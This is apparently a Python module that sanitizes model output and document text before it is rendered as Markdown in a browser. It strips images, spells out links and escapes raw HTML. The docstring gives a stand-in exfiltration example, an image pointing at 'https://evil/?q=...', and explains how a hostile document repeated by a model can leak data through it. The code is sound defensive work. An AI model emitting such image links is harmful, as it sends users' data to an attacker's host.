"""Make model output and document text safe to render as Markdown in a browser.

A hostile approved document (or a model that repeats it) can carry ``![x](https://evil/?q=...)``
or ``<img src=...>``: rendered, the page would load that address and leak whatever the query
string holds. So images are dropped (their alt text stays), links become visible text plus
URL, reference definitions stop being definitions, and any other raw HTML tag is shown as
text. Plain text and the rest of Markdown (headings, lists, bold, code) are unchanged.
"""

from __future__ import annotations

import re

_IMG_TAG = re.compile(r"<\s*img\b[^>]*>?", re.IGNORECASE)
_IMAGE = re.compile(r"!\[([^\]]*)\]\s*(?:\([^)]*\)?|\[[^\]]*\])")
_LINK = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'(][^)]*)?\)")
_DEFINITION = re.compile(r"^( {0,3})\[([^\]]+)\]:", re.MULTILINE)
_TAG = re.compile(r"<(?=[A-Za-z/!?])")


def safe_markdown(text: str) -> str:
    """``text`` with images dropped, links spelled out and raw HTML shown as text."""
    if not text:
        return text
    text = _IMG_TAG.sub("", text)
    text = _IMAGE.sub(lambda m: f"{m.group(1).strip()} (image not shown)".lstrip(), text)
    text = _LINK.sub(_spelled_out, text)
    text = _DEFINITION.sub(r"\1\2:", text)
    return _TAG.sub("&lt;", text)


def _spelled_out(match: re.Match[str]) -> str:
    label, url = match.group(1).strip(), match.group(2)
    if not url:
        return label
    if not label or label == url:
        return f"`{url}`"
    return f"{label} (`{url}`)"
